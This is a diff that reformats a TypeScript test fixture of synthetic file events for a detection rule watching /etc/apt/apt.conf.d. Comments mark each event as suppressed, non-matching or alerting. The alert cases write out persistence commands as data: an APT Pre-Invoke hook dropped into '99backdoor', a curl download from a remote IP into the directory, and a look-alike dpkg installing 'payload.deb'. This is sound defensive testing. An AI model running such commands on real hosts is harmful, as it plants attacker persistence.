@@ -135,7 +135,12 @@ interface Spec {
   readonly time: string;
   readonly action: 'creation' | 'rename' | 'deletion';
   readonly path: string;
-  readonly process?: { readonly executable?: string; readonly name: string; readonly pid: number; readonly args: string };
+  readonly process?: {
+    readonly executable?: string;
+    readonly name: string;
+    readonly pid: number;
+    readonly args: string;
+  };
   readonly original?: string;
   readonly category?: readonly string[];
   readonly os?: string;
@@ -188,39 +193,190 @@ const dir = '/etc/apt/apt.conf.d';
 
 export const defaultEvents: readonly Record<string, unknown>[] = [
   // suppressed: exact executable in the allowlist
-  fileEvent({ id: 'apt-01', time: '2026-03-02T10:00:01.000Z', action: 'creation', path: `${dir}/50unattended-upgrades`, process: { executable: '/usr/bin/dpkg', name: 'dpkg', pid: 4101, args: 'dpkg --configure -a' } }),
+  fileEvent({
+    id: 'apt-01',
+    time: '2026-03-02T10:00:01.000Z',
+    action: 'creation',
+    path: `${dir}/50unattended-upgrades`,
+    process: { executable: '/usr/bin/dpkg', name: 'dpkg', pid: 4101, args: 'dpkg --configure -a' },
+  }),
   // suppressed: temporary file pattern
-  fileEvent({ id: 'apt-02', time: '2026-03-02T10:00:05.000Z', action: 'creation', path: `${dir}/20auto-upgrades.tmp.8c1f`, process: { executable: '/usr/sbin/unattended-upgrade', name: 'unattended-upgr', pid: 4150, args: '/usr/bin/python3 /usr/sbin/unattended-upgrade' } }),
+  fileEvent({
+    id: 'apt-02',
+    time: '2026-03-02T10:00:05.000Z',
+    action: 'creation',
+    path: `${dir}/20auto-upgrades.tmp.8c1f`,
+    process: {
+      executable: '/usr/sbin/unattended-upgrade',
+      name: 'unattended-upgr',
+      pid: 4150,
+      args: '/usr/bin/python3 /usr/sbin/unattended-upgrade',
+    },
+  }),
   // suppressed: editor swap file extension
-  fileEvent({ id: 'apt-03', time: '2026-03-02T10:01:12.000Z', action: 'creation', path: `${dir}/.99proxy.swp`, process: { executable: '/usr/bin/vim.basic', name: 'vim', pid: 5120, args: 'vim /etc/apt/apt.conf.d/99proxy' } }),
+  fileEvent({
+    id: 'apt-03',
+    time: '2026-03-02T10:01:12.000Z',
+    action: 'creation',
+    path: `${dir}/.99proxy.swp`,
+    process: { executable: '/usr/bin/vim.basic', name: 'vim', pid: 5120, args: 'vim /etc/apt/apt.conf.d/99proxy' },
+  }),
   // suppressed: renamed from a .dpkg-new file
-  fileEvent({ id: 'apt-04', time: '2026-03-02T10:01:30.000Z', action: 'rename', path: `${dir}/20packagekit`, original: `${dir}/20packagekit.dpkg-new`, process: { executable: '/usr/bin/python3.11', name: 'python3.11', pid: 5201, args: 'python3.11 /usr/lib/update-notifier/apt-check' } }),
+  fileEvent({
+    id: 'apt-04',
+    time: '2026-03-02T10:01:30.000Z',
+    action: 'rename',
+    path: `${dir}/20packagekit`,
+    original: `${dir}/20packagekit.dpkg-new`,
+    process: {
+      executable: '/usr/bin/python3.11',
+      name: 'python3.11',
+      pid: 5201,
+      args: 'python3.11 /usr/lib/update-notifier/apt-check',
+    },
+  }),
   // suppressed: executable under a wildcard-allowlisted directory
-  fileEvent({ id: 'apt-05', time: '2026-03-02T10:02:00.000Z', action: 'creation', path: `${dir}/99nix-apt`, process: { executable: '/nix/store/3f9a2k-apt-2.6.1/bin/apt-config', name: 'apt-config', pid: 5302, args: 'apt-config dump' } }),
+  fileEvent({
+    id: 'apt-05',
+    time: '2026-03-02T10:02:00.000Z',
+    action: 'creation',
+    path: `${dir}/99nix-apt`,
+    process: {
+      executable: '/nix/store/3f9a2k-apt-2.6.1/bin/apt-config',
+      name: 'apt-config',
+      pid: 5302,
+      args: 'apt-config dump',
+    },
+  }),
   // suppressed: "/dev/fd/*" is literal under `in` but a wildcard under `:`
-  fileEvent({ id: 'apt-06', time: '2026-03-02T10:02:20.000Z', action: 'creation', path: `${dir}/01fdexec`, process: { executable: '/dev/fd/3', name: '3', pid: 5377, args: '/dev/fd/3' } }),
+  fileEvent({
+    id: 'apt-06',
+    time: '2026-03-02T10:02:20.000Z',
+    action: 'creation',
+    path: `${dir}/01fdexec`,
+    process: { executable: '/dev/fd/3', name: '3', pid: 5377, args: '/dev/fd/3' },
+  }),
   // suppressed: no process.executable at all
-  fileEvent({ id: 'apt-07', time: '2026-03-02T10:02:45.000Z', action: 'creation', path: `${dir}/30nobin`, process: { name: 'kworker/u8:2', pid: 88, args: '' } }),
+  fileEvent({
+    id: 'apt-07',
+    time: '2026-03-02T10:02:45.000Z',
+    action: 'creation',
+    path: `${dir}/30nobin`,
+    process: { name: 'kworker/u8:2', pid: 88, args: '' },
+  }),
   // suppressed: process name allowlist (perl) and the perl e2scrub group
-  fileEvent({ id: 'apt-08', time: '2026-03-02T10:03:10.000Z', action: 'creation', path: `${dir}/e2scrub_all.tmp.k2J9`, process: { executable: '/usr/bin/perl', name: 'perl', pid: 5410, args: 'perl /usr/sbin/e2scrub_all' } }),
+  fileEvent({
+    id: 'apt-08',
+    time: '2026-03-02T10:03:10.000Z',
+    action: 'creation',
+    path: `${dir}/e2scrub_all.tmp.k2J9`,
+    process: { executable: '/usr/bin/perl', name: 'perl', pid: 5410, args: 'perl /usr/sbin/e2scrub_all' },
+  }),
   // suppressed: sed -i writes its temporary sedXXXXXX file
-  fileEvent({ id: 'apt-09', time: '2026-03-02T10:03:40.000Z', action: 'creation', path: `${dir}/sedq1W2e3`, process: { executable: '/usr/bin/sed', name: 'sed', pid: 5502, args: 'sed -i s/Enable "1"/Enable "0"/ /etc/apt/apt.conf.d/10periodic' } }),
+  fileEvent({
+    id: 'apt-09',
+    time: '2026-03-02T10:03:40.000Z',
+    action: 'creation',
+    path: `${dir}/sedq1W2e3`,
+    process: {
+      executable: '/usr/bin/sed',
+      name: 'sed',
+      pid: 5502,
+      args: 'sed -i s/Enable "1"/Enable "0"/ /etc/apt/apt.conf.d/10periodic',
+    },
+  }),
   // no match: not a file event (category)
-  fileEvent({ id: 'apt-10', time: '2026-03-02T10:04:00.000Z', action: 'creation', path: `${dir}/99proc`, category: ['process'], process: { executable: '/usr/bin/bash', name: 'bash', pid: 5600, args: 'bash' } }),
+  fileEvent({
+    id: 'apt-10',
+    time: '2026-03-02T10:04:00.000Z',
+    action: 'creation',
+    path: `${dir}/99proc`,
+    category: ['process'],
+    process: { executable: '/usr/bin/bash', name: 'bash', pid: 5600, args: 'bash' },
+  }),
   // no match: not a Linux host
-  fileEvent({ id: 'apt-11', time: '2026-03-02T10:04:20.000Z', action: 'creation', path: `${dir}/99mac`, os: 'macos', process: { executable: '/bin/zsh', name: 'zsh', pid: 5650, args: 'zsh' } }),
+  fileEvent({
+    id: 'apt-11',
+    time: '2026-03-02T10:04:20.000Z',
+    action: 'creation',
+    path: `${dir}/99mac`,
+    os: 'macos',
+    process: { executable: '/bin/zsh', name: 'zsh', pid: 5650, args: 'zsh' },
+  }),
   // no match: a deletion, not a creation or rename
-  fileEvent({ id: 'apt-12', time: '2026-03-02T10:04:40.000Z', action: 'deletion', path: `${dir}/99old`, process: { executable: '/usr/bin/rm', name: 'rm', pid: 5701, args: 'rm -f /etc/apt/apt.conf.d/99old' } }),
+  fileEvent({
+    id: 'apt-12',
+    time: '2026-03-02T10:04:40.000Z',
+    action: 'deletion',
+    path: `${dir}/99old`,
+    process: { executable: '/usr/bin/rm', name: 'rm', pid: 5701, args: 'rm -f /etc/apt/apt.conf.d/99old' },
+  }),
   // no match: outside the APT configuration directory
-  fileEvent({ id: 'apt-13', time: '2026-03-02T10:05:00.000Z', action: 'creation', path: '/etc/apt/sources.list.d/mirror.list', process: { executable: '/usr/bin/bash', name: 'bash', pid: 5755, args: 'bash -c echo deb ... > /etc/apt/sources.list.d/mirror.list' } }),
+  fileEvent({
+    id: 'apt-13',
+    time: '2026-03-02T10:05:00.000Z',
+    action: 'creation',
+    path: '/etc/apt/sources.list.d/mirror.list',
+    process: {
+      executable: '/usr/bin/bash',
+      name: 'bash',
+      pid: 5755,
+      args: 'bash -c echo deb ... > /etc/apt/sources.list.d/mirror.list',
+    },
+  }),
   // alert: a shell drops a hook into apt.conf.d (no extension at all)
-  fileEvent({ id: 'apt-14', time: '2026-03-02T10:05:30.000Z', action: 'creation', path: `${dir}/99backdoor`, process: { executable: '/usr/bin/bash', name: 'bash', pid: 6001, args: 'bash -c echo APT::Update::Pre-Invoke {...} > /etc/apt/apt.conf.d/99backdoor' } }),
+  fileEvent({
+    id: 'apt-14',
+    time: '2026-03-02T10:05:30.000Z',
+    action: 'creation',
+    path: `${dir}/99backdoor`,
+    process: {
+      executable: '/usr/bin/bash',
+      name: 'bash',
+      pid: 6001,
+      args: 'bash -c echo APT::Update::Pre-Invoke {...} > /etc/apt/apt.conf.d/99backdoor',
+    },
+  }),
   // alert: a renamed-in file whose previous name was not a dpkg-new file
-  fileEvent({ id: 'apt-15', time: '2026-03-02T10:06:00.000Z', action: 'rename', path: `${dir}/01persist`, original: '/tmp/.x/01persist.conf', process: { executable: '/usr/bin/mv', name: 'mv', pid: 6050, args: 'mv /tmp/.x/01persist.conf /etc/apt/apt.conf.d/01persist' } }),
+  fileEvent({
+    id: 'apt-15',
+    time: '2026-03-02T10:06:00.000Z',
+    action: 'rename',
+    path: `${dir}/01persist`,
+    original: '/tmp/.x/01persist.conf',
+    process: {
+      executable: '/usr/bin/mv',
+      name: 'mv',
+      pid: 6050,
+      args: 'mv /tmp/.x/01persist.conf /etc/apt/apt.conf.d/01persist',
+    },
+  }),
   // alert: a look-alike dpkg outside the allowlisted paths (`in` is exact and case-sensitive)
-  fileEvent({ id: 'apt-16', time: '2026-03-02T10:06:30.000Z', action: 'creation', path: `${dir}/99update-hook`, process: { executable: '/usr/local/bin/dpkg', name: 'dpkg', pid: 6102, args: '/usr/local/bin/dpkg --install payload.deb' } }),
+  fileEvent({
+    id: 'apt-16',
+    time: '2026-03-02T10:06:30.000Z',
+    action: 'creation',
+    path: `${dir}/99update-hook`,
+    process: {
+      executable: '/usr/local/bin/dpkg',
+      name: 'dpkg',
+      pid: 6102,
+      args: '/usr/local/bin/dpkg --install payload.deb',
+    },
+  }),
   // alert: a download written straight into the directory
-  fileEvent({ id: 'apt-17', time: '2026-03-02T10:07:00.000Z', action: 'creation', path: `${dir}/95proxy`, process: { executable: '/usr/bin/curl', name: 'curl', pid: 6150, args: 'curl -fsSL -o /etc/apt/apt.conf.d/95proxy http://198.51.100.7/p' } }),
+  fileEvent({
+    id: 'apt-17',
+    time: '2026-03-02T10:07:00.000Z',
+    action: 'creation',
+    path: `${dir}/95proxy`,
+    process: {
+      executable: '/usr/bin/curl',
+      name: 'curl',
+      pid: 6150,
+      args: 'curl -fsSL -o /etc/apt/apt.conf.d/95proxy http://198.51.100.7/p',
+    },
+  }),
 ].map((e) => JSON.parse(JSON.stringify(e)) as Record<string, unknown>);
 
 export const defaultEventsText = `${JSON.stringify(defaultEvents, null, 2)}\n`;
